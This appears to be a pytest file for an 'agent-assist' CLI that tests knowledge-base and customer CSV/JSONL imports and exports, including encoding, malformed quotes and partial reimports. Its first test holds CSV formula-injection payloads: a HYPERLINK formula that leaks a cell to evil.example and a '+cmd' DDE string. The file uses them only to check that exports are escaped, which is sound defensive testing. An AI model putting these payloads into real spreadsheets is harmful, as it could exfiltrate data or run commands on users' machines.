"""Issue 16, imports and exports: what an outside audit reproduced with real files through ``agent-assist``.

Every test runs the real command line in a subprocess on a real store under AGENT_ASSIST_HOME.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

from .test_cli import run

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_kb_and_customer_csv_exports_never_hold_a_formula_and_read_back_unchanged(tmp_path: Path) -> None:
    home = tmp_path / "home"
    kb = tmp_path / "kb.jsonl"
    kb.write_text(
        json.dumps({"id": "k1", "title": EVIL, "body": "-1 then +2", "tags": ["@mention", "'=quoted"]})
        + "\n",
        encoding="utf-8",
    )
    crm = tmp_path / "crm.jsonl"
    crm.write_text(
        json.dumps(
            {"id": "c1", "name": "@SUM(1+1)", "company": "+cmd|' /C calc'!A0", "phones": ["+81 90 1234 5678"]}
        )
        + "\n",
        encoding="utf-8",
    )
    assert run(home, "kb", "import", str(kb)).returncode == 0
    assert run(home, "customers", "import", str(crm)).returncode == 0

    kb_out, crm_out = tmp_path / "kb-out.csv", tmp_path / "crm-out.csv"
    assert run(home, "kb", "export", str(kb_out)).returncode == 0
    assert run(home, "customers", "export", str(crm_out)).returncode == 0
    for path in (kb_out, crm_out):
        for row in _cells(path):
            for cell in row:
                assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (path.name, cell)
    header, row = _cells(kb_out)
    assert dict(zip(header, row, strict=True))["title"] == "'" + EVIL

    # Our own exports come back exactly as they went out.
    second = tmp_path / "home2"
    assert run(second, "kb", "import", str(kb_out)).returncode == 0
    assert run(second, "customers", "import", str(crm_out)).returncode == 0
    back = tmp_path / "back.jsonl"
    assert run(second, "kb", "export", str(back)).returncode == 0
    entry = json.loads(back.read_text(encoding="utf-8"))
    assert (entry["title"], entry["body"], entry["tags"]) == (EVIL, "-1 then +2", ["@mention", "'=quoted"])
    assert run(second, "customers", "export", str(back)).returncode == 0
    customer = json.loads(back.read_text(encoding="utf-8"))
    assert (customer["name"], customer["company"], customer["phones"]) == (
        "@SUM(1+1)",
        "+cmd|' /C calc'!A0",
        ["+81 90 1234 5678"],
    )


CRM_HEADER = "id,name,kana,phones,email\n"


def _lookup(home: Path, phone: str) -> Any:
    done = run(home, "customers", "lookup", phone, "--json")
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def test_a_stray_quote_is_named_and_the_rows_below_it_still_import(tmp_path: Path) -> None:
    crm = tmp_path / "crm.csv"
    crm.write_text(
        CRM_HEADER + "c1,山田 太郎,やまだ,090-1234-5678,taro@example.jp\n"
        'c2,"佐藤 花子,さとう,03-1111-2222,hanako@example.jp\n'
        "c3,鈴木 一郎,すずき,03-2222-3333,ichiro@example.jp\n"
        'c4,"田中, 次郎",たなか,03-3333-4444,jiro@example.jp\n',
        encoding="utf-8",
    )
    home = tmp_path / "home"
    done = run(home, "customers", "import", str(crm))
    assert done.returncode == 2
    errors = [line for line in done.stderr.splitlines() if line.startswith(f"error: {crm}")]
    assert len(errors) == 1 and errors[0].startswith(f"error: {crm}: row 3, field 'name'"), done.stderr
    assert "quote" in errors[0]

    done = run(home, "customers", "import", str(crm), "--skip-invalid", "--json")
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    assert report["imported"] == 3 and len(report["errors"]) == 1
    for phone, expected in (
        ("09012345678", "山田 太郎"),
        ("0322223333", "鈴木 一郎"),
        ("0333334444", "田中, 次郎"),
    ):
        found = _lookup(home, phone)
        assert found["status"] == "known", phone
        assert found["customers"][0]["name"] == expected
    assert _lookup(home, "0311112222")["status"] == "new_caller"


def test_a_quote_left_open_in_a_notes_cell_does_not_swallow_the_next_customer(tmp_path: Path) -> None:
    crm = tmp_path / "crm.csv"
    crm.write_text(
        "id,name,phones,notes\n"
        'c1,山田 太郎,090-1234-5678,"ルーター交換済み\n'
        "c2,佐藤 花子,03-1111-2222,請求書の再発行を希望\n"
        'c3,鈴木 一郎,03-2222-3333,"二行の\nメモ"\n',
        encoding="utf-8",
    )
    home = tmp_path / "home"
    done = run(home, "customers", "import", str(crm), "--skip-invalid", "--json")
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    assert report["imported"] == 2
    assert [e.split(": ", 1)[1][:20] for e in report["errors"]] == ["row 2, field 'notes'"]
    assert _lookup(home, "0311112222")["status"] == "known"
    assert _lookup(home, "09012345678")["status"] == "new_caller"


def test_errors_name_the_spreadsheet_row_after_a_cell_with_line_breaks(tmp_path: Path) -> None:
    kb = tmp_path / "faq.csv"
    kb.write_text(
        'id,title,body\nk1,解約,"一行目\n二行目\n三行目"\nk2,Password,Send a link\nk3,,no title here\n',
        encoding="utf-8",
    )
    done = run(tmp_path / "home", "kb", "import", str(kb))
    assert done.returncode == 2
    assert f"error: {kb}: row 4, field 'title'" in done.stderr  # file line 6; the spreadsheet shows row 4


def _excel_unicode_text(rows: list[list[str]], encoding: str, bom: bytes) -> bytes:
    text = "\r\n".join("\t".join(row) for row in rows) + "\r\n"
    return bom + text.encode(encoding)


def test_excel_unicode_text_in_utf16_with_tabs_imports(tmp_path: Path) -> None:
    rows = [
        ["id", "name", "kana", "company", "phones"],
        ["c1", "山田 太郎", "やまだ たろう", "青空商事", "090-1234-5678"],
        ["c2", "Jane Doe", "", "Acme, Inc.", "+1 415 555 0199"],
    ]
    home = tmp_path / "home"
    for encoding, bom in (("utf-16-le", b"\xff\xfe"), ("utf-16-be", b"\xfe\xff"), ("utf-16-le", b"")):
        path = tmp_path / f"crm-{encoding}-{len(bom)}.txt"
        path.write_bytes(_excel_unicode_text(rows, encoding, bom))
        done = run(home, "customers", "import", str(path))
        assert done.returncode == 0, done.stderr
        assert "imported 2 customers" in done.stdout and f"read as {encoding}" in done.stdout
        found = _lookup(home, "+819012345678")["customers"][0]
        assert (found["name"], found["company"]) == ("山田 太郎", "青空商事")
    assert _lookup(home, "+14155550199")["customers"][0]["company"] == "Acme, Inc."


def test_a_file_in_another_shape_is_one_clear_error_not_one_per_row(tmp_path: Path) -> None:
    path = tmp_path / "crm.csv"
    path.write_text("顧客番号;氏名\n1;山田\n2;佐藤\n", encoding="utf-8")
    done = run(tmp_path / "home", "customers", "import", str(path))
    assert done.returncode == 2 and len(done.stderr.splitlines()) == 1
    assert f"{path}: row 1 (the header) has no 'id' column" in done.stderr


def test_an_empty_file_is_an_error_not_zero_imports(tmp_path: Path) -> None:
    home = tmp_path / "home"
    cases = {
        "empty.csv": "",
        "blank.jsonl": "\n\n",
        "header-only.csv": "id,title,body\n",
        "spaces.csv": " \n",
    }
    for name, text in cases.items():
        path = tmp_path / name
        path.write_text(text, encoding="utf-8")
        done = run(home, "kb", "import", str(path))
        assert done.returncode == 2, (name, done.stdout)
        assert done.stderr.startswith(f"error: {path}: ") and (
            "empty" in done.stderr or "no rows" in done.stderr
        )
        assert "imported" not in done.stdout


def _export_jsonl(home: Path, what: str, tmp_path: Path) -> dict[str, Any]:
    out = tmp_path / f"{what}-now.jsonl"
    done = run(home, what, "export", str(out))
    assert done.returncode == 0, done.stderr
    return {row["id"]: row for row in map(json.loads, out.read_text(encoding="utf-8").splitlines())}


def test_reimporting_fewer_columns_leaves_the_other_fields_as_they_were(tmp_path: Path) -> None:
    home = tmp_path / "home"
    full = tmp_path / "crm.csv"
    full.write_text(
        "id,name,kana,company,phones,email,tags,traits,preferred_language\n"
        "c1,山田 太郎,やまだ たろう,青空商事,090-1234-5678,taro@example.jp,VIP,パソコン操作に不慣れ,ja\n"
        "c2,Jane Doe,,Acme,+1 415 555 0199,jane@example.com,,prefers short answers,en\n",
        encoding="utf-8",
    )
    assert run(home, "customers", "import", str(full)).returncode == 0
    before = _export_jsonl(home, "customers", tmp_path)
    stamped = json.loads(run(home, "customers", "search", "jane@example.com", "--json").stdout)[0][
        "updated_at"
    ]

    phones_only = tmp_path / "phones.csv"
    phones_only.write_text("id,phones\nc1,090-1234-5678;03-1111-2222\nc2,+1 415 555 0199\n", encoding="utf-8")
    done = run(home, "customers", "import", str(phones_only))
    assert done.returncode == 0, done.stderr
    assert "(0 new, 1 updated, 1 unchanged;" in done.stdout
    after = _export_jsonl(home, "customers", tmp_path)
    assert after["c1"] == before["c1"] | {"phones": ["090-1234-5678", "03-1111-2222"]}
    assert after["c2"] == before["c2"]  # untouched, not even re-stamped:
    assert (
        json.loads(run(home, "customers", "search", "jane@example.com", "--json").stdout)[0]["updated_at"]
        == stamped
    )
    assert _lookup(home, "03-1111-2222")["customers"][0]["id"] == "c1"

    # A column that is there but empty clears that one field (a deliberate clear).
    cleared = tmp_path / "clear.csv"
    cleared.write_text("id,company,tags\nc1,,\n", encoding="utf-8")
    assert run(home, "customers", "import", str(cleared)).returncode == 0
    c1 = _export_jsonl(home, "customers", tmp_path)["c1"]
    assert (c1["company"], c1["tags"], c1["kana"], c1["traits"]) == (
        "",
        [],
        "やまだ たろう",
        ["パソコン操作に不慣れ"],
    )
    # A name cannot be cleared.
    nameless = tmp_path / "nameless.csv"
    nameless.write_text("id,name\nc1,\n", encoding="utf-8")
    done = run(home, "customers", "import", str(nameless))
    assert done.returncode == 2 and f"{nameless}: row 2, field 'name'" in done.stderr


def test_reimporting_knowledge_without_body_tags_or_triggers_keeps_them(tmp_path: Path) -> None:
    home = tmp_path / "home"
    full = tmp_path / "kb.jsonl"
    full.write_text(
        json.dumps(
            {
                "id": "retention",
                "title": "引き止めトーク",
                "body": "特典のご案内を先に",
                "tags": ["解約"],
                "language": "ja",
                "aliases": ["退会"],
                "triggers": ["解約", "やめたい"],
            },
            ensure_ascii=False,
        )
        + "\n",
        encoding="utf-8",
    )
    assert run(home, "kb", "import", str(full)).returncode == 0
    before = _export_jsonl(home, "kb", tmp_path)["retention"]

    titles = tmp_path / "titles.csv"
    titles.write_text("id,title\nretention,引き止めトーク（改）\n", encoding="utf-8")
    done = run(home, "kb", "import", str(titles))
    assert done.returncode == 0 and "(0 new, 1 updated, 0 unchanged;" in done.stdout, done.stdout
    after = _export_jsonl(home, "kb", tmp_path)["retention"]
    assert after == before | {"title": "引き止めトーク（改）"}
    cards = json.loads(run(home, "suggest", "もう解約したいんですけど", "--json").stdout)
    assert cards and cards[0]["id"] == "retention"  # the trigger rule is still there


def test_a_note_edited_in_the_crm_is_updated_in_place(tmp_path: Path) -> None:
    home = tmp_path / "home"
    crm = tmp_path / "crm.jsonl"

    def write(text: str, with_id: str) -> None:
        notes = [
            {"text": text, "author": "佐藤", "created_at": "2026-01-05T10:00:00+09:00"},
            {"text": "二件目のメモ", "author": "佐藤", "created_at": "2026-01-05T10:00:00+09:00"},
            {"id": "crm-note-77", "text": with_id, "author": "鈴木"},
        ]
        crm.write_text(
            json.dumps({"id": "c1", "name": "山田 太郎", "notes": notes}, ensure_ascii=False) + "\n",
            encoding="utf-8",
        )

    write("ルーターは先月交換済み", "請求書は郵送希望")
    assert run(home, "customers", "import", str(crm)).returncode == 0
    write("ルーターは先月交換済み（2台目も交換）", "請求書はメール希望")
    done = run(home, "customers", "import", str(crm))
    assert done.returncode == 0 and "(0 new, 1 updated, 0 unchanged;" in done.stdout, done.stdout
    notes = _export_jsonl(home, "customers", tmp_path)["c1"]["notes"]
    assert sorted(n["text"] for n in notes) == [
        "ルーターは先月交換済み（2台目も交換）",
        "二件目のメモ",
        "請求書はメール希望",
    ]
    done = run(home, "customers", "import", str(crm))
    assert "(0 new, 0 updated, 1 unchanged;" in done.stdout


def test_numbers_from_abroad_and_the_configured_region_through_the_command_line(tmp_path: Path) -> None:
    home = tmp_path / "home"
    crm = tmp_path / "crm.csv"
    crm.write_text(
        "id,name,phones\nie,Siobhán Murphy,086 123 4567\nus,Jane Doe,2125550199\n", encoding="utf-8"
    )

    def cli(*args: str) -> Any:
        done = run(home, *args, env={"AGENT_ASSIST_PHONE_REGION": "IE"})
        assert done.returncode == 0, done.stderr
        return done

    cli("customers", "import", str(crm))
    for dialled, expected in (
        ("+353 86 123 4567", "ie"),
        ("00353861234567", "ie"),
        ("+1 212 555 0199", "us"),
    ):
        found = json.loads(cli("customers", "lookup", dialled, "--json").stdout)
        assert (found["status"], found["customers"][0]["id"]) == ("known", expected), dialled
        assert found["normalized"] in ("+353861234567", "+12125550199")
